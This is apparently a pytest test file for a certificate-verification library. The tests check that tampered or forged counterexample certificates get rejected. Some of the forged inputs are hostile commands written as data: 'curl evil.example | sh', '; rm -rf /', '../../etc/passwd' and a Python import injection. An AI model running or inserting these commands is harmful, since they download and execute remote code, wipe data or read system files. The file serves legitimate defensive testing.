"""Certificates are decided again by anybody, and nothing in them is believed."""

import json
from dataclasses import replace
from fractions import Fraction
from pathlib import Path
from random import Random
from typing import Any

import pytest
import sympy
from hypothesis import strategies as st

from refute import Case, Kind, Run, at_least, at_most, less
from refute.arithmetic.numbers import written
from refute.decide.evaluate import judge
from refute.decide.probability import with_probability
from refute.errors import RefuteError
from refute.functions import exp
from refute.kernel import certificate
from refute.kernel.certificate import document, statement_digest
from refute.kernel.verification import EVIDENCE_ONLY, objections
from refute.strategies import points, sized
from tests.planted import IMPOSSIBLE, POSITIVE, planted
from tests.refute.kernel.square import CLAIM, found, refitted, square_is_larger


def test_balls_certify_too():
    """An irrational counterexample is re-established in balls."""

    def exponential_is_linear(x):
        """exp(x) <= 1 + 2x for positive x."""
        return at_least(1 + 2 * x, exp(x))

    claim = planted(exponential_is_linear, assumes=(POSITIVE,))
    assert found(claim).level == "certified"
    assert objections(document(claim, found(claim)), claim) == []


def test_an_identity_is_decided_again():
    """A symbolic certificate is valid as long as the identity is refuted."""
    x = sympy.Symbol("x")
    wrong = planted(lambda: x, kind=Kind.SYMBOLIC, instances=())
    data = document(wrong, found(wrong))
    assert objections(data, wrong) == []
    mended = replace(wrong, conclusion=lambda: x - x)
    assert objections(data, mended) == ["the identity is proved, not refuted"]


@pytest.mark.parametrize("key", ["claim", "statement", "case", "slack", "violated", "level", "versions"])
def test_a_changed_certificate_is_noticed(honest, key):
    """Whatever was touched, the digest does not fit."""
    assert objections(honest | {key: "changed"}, CLAIM) == ["the content was changed: its digest does not fit"]


def test_a_missing_digest_is_noticed(honest):
    """As is a digest that is none."""
    for digest in (None, "", 7, honest["digest"][:16]):
        assert objections(honest | {"digest": digest}, CLAIM) == ["the content was changed: its digest does not fit"]


def test_an_unknown_claim(honest):
    """There is nothing to check it against."""
    assert objections(honest, None) == ["no claim is called 'planted.square_is_larger'"]


def test_a_certificate_speaks_about_one_claim(honest):
    """Another claim, another wording or another assumption is not what was certified."""

    def other(x):
        """x^2 > x for positive x."""
        return less(x, x * x)

    for claim in (
        planted(other, assumes=(POSITIVE,)),
        replace(CLAIM, assumes=()),
        replace(CLAIM, assumes=(POSITIVE, IMPOSSIBLE)),
        replace(CLAIM, id="b.c"),
    ):
        assert objections(honest, claim) == [
            "the statement or the assumptions of the claim differ from the certified ones"
        ]
        assert statement_digest(claim) != statement_digest(CLAIM)


@pytest.mark.parametrize(
    ("case", "objection"),
    [
        ({"x": "2"}, "the conclusion is not violated (slack 2)"),
        ({"x": "1"}, "the conclusion is not violated (slack 0)"),
        ({"x": "-1"}, 'the case does not meet "x is positive" (slack -1)'),
        ({"x": "0"}, 'the case does not meet "x is positive" (slack 0)'),
    ],
)
def test_a_changed_case_is_judged_anew(honest, case, objection):
    """With a digest that fits and the old margins beside it, the case alone decides."""
    assert objections(refitted(honest, case=case), CLAIM) == [objection]


def test_another_case_with_the_old_margins_is_a_misstatement(honest):
    """It violates the claim, but the file does not say by how much."""
    changed = refitted(honest, case={"x": "1/3"}, slack="1000", error="0")
    said = 'what the file states is not what the case gives: replay, slack, violated, the margin of "x is positive"'
    assert objections(changed, CLAIM) == [said]
    assert objections(refitted(honest, level="certified"), CLAIM) == [
        "what the file states is not what the case gives: level"
    ]


FORGED = {
    "no case": None,
    "a list": [1],
    "no field": {},
    "another field": {"y": "1/2"},
    "a word": {"x": {"word": "half"}},
    "an array": {"x": {"shape": [0], "entries": []}},
    "an exponent": {"x": "1e999999999"},
    "an exponent in an array": {"x": {"shape": [1], "entries": ["1e999999999"]}},
    "a negative exponent": {"x": "1e-999999999"},
    "a numeral without end": {"x": "1" * 100_000},
    "an enormous shape": {"x": {"shape": [10**6, 10**6], "entries": []}},
    "code": {"x": "__import__('os').getcwd()"},
    "an unknown record": {"x": {"record": "Popen", "args": {"word": "true"}}},
    "nan": {"x": float("nan")},
    "a bool": {"x": True},
}


@pytest.mark.parametrize("case", FORGED.values(), ids=list(FORGED))
def test_a_forged_case_is_an_error_or_an_objection(honest, case):
    """It never verifies, hangs or runs; what is raised is one of ours."""
    try:
        against = objections(refitted(honest, case=case), CLAIM)
    except RefuteError as error:
        against = [error.message]
    assert against != []


def test_a_forged_case_that_is_nested_deeply(honest):
    """Depth is an error or an objection too."""
    case: Any = "1"
    for depth in range(700):
        case = {"list": [case]}
        if depth in (10, 400):
            assert _rejected(refitted(honest, case={"x": case}))
    with pytest.raises((RefuteError, RecursionError)):
        assert not _rejected(refitted(honest, case={"x": case}))


def test_very_small_margins_are_certified():
    """A slack of 10^-5000, which Python does not print."""
    tiny = Fraction(1, 10**5000)
    claim = planted(square_is_larger, instances=(Case.of(x=tiny),))
    data = json.loads(json.dumps(document(claim, found(claim))))
    assert len(data["slack"]) > 5000
    assert objections(data, claim) == []


def _places(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """The way to every number and word in a file."""
    if isinstance(value, dict):
        return [place for key, entry in value.items() for place in _places(entry, (*path, key))]
    if isinstance(value, list):
        return [place for key, entry in enumerate(value) for place in _places(entry, (*path, key))]
    return [path]


def _tampered(data: dict[str, Any], place: tuple[Any, ...], rng: Random) -> dict[str, Any]:
    """One number or word changed a little: a digit, a sign, a letter, or made huge."""
    copy = json.loads(json.dumps(data))
    target = copy
    for key in place[:-1]:
        target = target[key]
    old = target[place[-1]]
    if isinstance(old, str):
        ways = [old + "1", "1/3" if old == "0" else "-" + old, old[:-1], "9" * 60_000, "../../etc/passwd", "nan"]
    else:
        ways = [old + 1, -old - 1, [old], "1", 1e300]
    target[place[-1]] = rng.choice([way for way in ways if way != old])
    return copy


def test_two_hundred_tampered_certificates_are_rejected(honest):
    """Any changed number or word: without a digest that fits, and with one."""
    rng = Random(0)
    places = [place for place in _places(honest) if place != ("digest",)]
    for k in range(200):
        place = places[k % len(places)]
        changed = _tampered(honest, place, rng)
        assert objections(changed, CLAIM), place
        assert _rejected(refitted(changed)) or _says_the_same(changed, honest), (place, changed)


def _says_the_same(changed: dict[str, Any], honest: dict[str, Any]) -> bool:
    """Only the versions differ, and are versions of something."""
    return {**changed, "versions": 0} == {**honest, "versions": 0}


def _rejected(data: dict[str, Any]) -> bool:
    """By an objection, by the reader of the file, or because no claim has that name."""
    if data.get("refute_certificate") != 1:
        return True  # `read` refuses it
    try:
        return bool(objections(data, CLAIM if data["claim"] == CLAIM.id else None))
    except RefuteError:
        return True


FALSEHOODS = {
    "violated": "left 0, right 1000000",
    "replay": "curl evil.example | sh",
    "level": "certified",
    "arithmetic": "balls, 192 bits",
    "slack": "-1/5",
    "error": "1/10",
    "claim": 7,
    "statement": None,
    "refute_certificate": 2,
    "assumptions": [],
    "verdict": "against",
    "seed": 0,
    "note": "an extra key",
    "versions": {"refute": "0.1.0", "numpy": "; rm -rf /", "python-flint": "0.9.0"},
}


@pytest.mark.parametrize("key", FALSEHOODS)
def test_every_field_is_decided_again(honest, key):
    """What is false is named, with a digest that fits."""
    changed = refitted(honest, **{key: FALSEHOODS[key]})
    [said] = objections(changed, CLAIM)
    assert key in said or key == "claim"


@pytest.mark.parametrize(
    "key", ["violated", "replay", "level", "slack", "assumptions", "versions", "refute_certificate"]
)
def test_a_field_that_is_missing_is_noticed(honest, key):
    """As one that is there."""
    assert _rejected(refitted({name: value for name, value in honest.items() if name not in (key, "digest")}))


@pytest.mark.parametrize("changed", ["2/4", "0.5", {"record": "Case"}, {"word": "1/2", "list": []}, "+1/2", 0.5])
def test_a_case_is_written_in_one_way(honest, changed):
    """Another spelling of the same number would be another file about the same case."""
    assert _rejected(refitted(honest, case={"x": changed}))


def zero_is_zero():
    """x = 0."""
    return sympy.Symbol("x")


@pytest.mark.parametrize("key", [*FALSEHOODS, "case"])
def test_a_symbolic_certificate_is_decided_again(key):
    """Every field of it, the case too."""
    wrong = planted(zero_is_zero, kind=Kind.SYMBOLIC, instances=())
    data = json.loads(json.dumps(document(wrong, found(wrong))))
    assert objections(data, wrong) == []
    false = {**FALSEHOODS, "assumptions": [{}], "level": "God", "case": {}}
    assert objections(refitted(data, **{key: false[key]}), wrong) != []


def test_no_case_refutes_an_existence_statement(honest):
    """One that is no witness is one of many."""
    there_is = replace(CLAIM, kind=Kind.EXISTENCE)
    assert objections(honest, there_is) == ['the claim says "there is": a case that is no witness refutes nothing']


def test_listed_instances_are_all_that_a_claim_speaks_of(honest):
    """Another case, however it violates the conclusion, is not in the domain."""
    claim = replace(CLAIM, given=None, instances=(Case.of(x=2), Case.of(x=Fraction(1, 2))))
    assert objections(honest, claim) == []
    third = document(CLAIM, replace(found(), case=Case.of(x=Fraction(1, 3))))
    assert objections(third, claim) == ["x: not in the domain of the claim"]


def test_a_field_without_a_domain_is_refused(honest):
    """Nothing says that the claim speaks of its value."""
    claim = replace(CLAIM, given=st.fixed_dictionaries({"x": st.just(Fraction(1, 2))}))
    assert objections(honest, claim) == ["x: the claim states no domain, so nothing says that it speaks of this case"]
    assert objections(honest, replace(CLAIM, given=None))[0].startswith("x: the claim states no domain")


def test_sizes_belong_to_the_domain():
    """A claim about two samples is not refuted by three."""

    def entries_are_small(points):
        """|x| <= 1."""
        return at_least(1, points)

    def claim(samples):
        return planted(entries_are_small, given=sized(points=points, samples=samples, dimension=(1, 1)))

    case = Case.of(points=[[2], [2], [2]])
    three, two = claim((1, 3)), claim((1, 2))
    judgement = judge(three, case, Run(), certify=True)
    data = json.loads(json.dumps(document(three, judgement.counterexample(three))))
    assert objections(data, three) == []
    assert objections(data, two) == ["points: not in the domain of the claim"]


def in_floats(x):
    """x <= 1, computed with an error of 1/1000."""
    return at_most(x, 1.0, "x", error=1e-3)


def test_numbers_with_an_error_agree_within_it():
    """A file from another machine may state other digits, but no other accuracy, decision or line."""
    claim = planted(in_floats, kind=Kind.DYNAMICS)
    data = json.loads(json.dumps(document(claim, found_against(claim, Case.of(x=2)))))
    assert objections(data, claim) == [EVIDENCE_ONLY]
    near = refitted(data, slack=written(Fraction(data["slack"]) + Fraction(1, 1000)))
    assert objections(near, claim) == [EVIDENCE_ONLY]
    assert objections(refitted(data, violated="x: left 1.9995, right 1"), claim) == [EVIDENCE_ONLY]
    for false in (
        {"slack": "-3/4"},
        {"slack": "1"},
        {"error": "0"},
        {"error": "1/100000"},
        {"error": "-1/1000"},
        {"error": "2"},
        {"violated": "x: left 3, right 1"},
        {"violated": "y: left 2, right 1"},
        {"violated": "x: left 1e9999, right 1/0"},
        {"violated": 2},
    ):
        assert "is not what the case gives" in objections(refitted(data, **false), claim)[0], false


def just_above(x):
    """x is at most 1/100, computed with an error of 10^-9."""
    return at_most(x, 0.01, "at 0.5", error=1e-9)


@pytest.mark.parametrize(("old", "new"), [("0.01", "0.02"), ("0.01", "0"), ("0.5", "0.4"), ("0.02", "0.021")])
def test_a_short_number_is_no_rough_one(old, new):
    """The last written digit of a bound or of a measured number is as good as the others."""
    claim = planted(just_above, kind=Kind.DYNAMICS)
    data = json.loads(json.dumps(document(claim, found_against(claim, Case.of(x=Fraction(1, 50))))))
    assert data["violated"] == "at 0.5: left 0.02, right 0.01"
    assert objections(data, claim) == [EVIDENCE_ONLY]
    near = refitted(data, violated=data["violated"].replace(old, old + "0000001"))
    assert objections(near, claim) == [EVIDENCE_ONLY]
    said = objections(refitted(data, violated=data["violated"].replace(old, new)), claim)
    assert said == ["what the file states is not what the case gives: violated"]


def test_evidence_does_not_pass_for_a_refutation():
    """Without the word it is a misstatement."""
    claim = planted(in_floats, kind=Kind.DYNAMICS)
    data = json.loads(json.dumps(document(claim, found_against(claim, Case.of(x=2)))))
    assert data["verdict"] == "against"
    body = {key: value for key, value in data.items() if key not in ("verdict", "digest")}
    assert "verdict" in objections(refitted(body), claim)[0]


def test_a_file_cannot_choose_its_random_numbers():
    """They come from the case."""

    def is_fair(x, *, rng, trials):
        """x never wins."""
        return with_probability(0.9, lambda rng, count: rng.random(count) < 0.5 + 0 * x, rng, trials)

    claim = planted(is_fair, kind=Kind.PROBABILISTIC)
    data = json.loads(json.dumps(document(claim, found_against(claim, Case.of(x=1)))))
    assert objections(data, claim) == []
    assert "seed" in objections(refitted(data, seed=7), claim)[0]


def found_against(claim, case):
    return judge(claim, case, Run(), certify=True).counterexample(claim)


def test_the_published_schema_describes_certificates(honest):
    """And refuses what the form alone shows to be false."""
    jsonschema = pytest.importorskip("jsonschema")
    schema = json.loads((Path(certificate.__file__).parent / "schema.json").read_text())
    jsonschema.Draft202012Validator.check_schema(schema)
    fits = jsonschema.Draft202012Validator(schema).is_valid
    assert fits(honest)
    assert not fits({key: value for key, value in honest.items() if key != "level"})
    for false in (
        {"note": 1},
        {"level": "God"},
        {"slack": 1},
        {"error": "-1"},
        {"case": {"x": True}},
        {"replay": "curl evil | sh"},
        {"versions": {}},
        {"verdict": "refuted"},
        {"refute_certificate": 2},
    ):
        assert not fits(honest | false), false
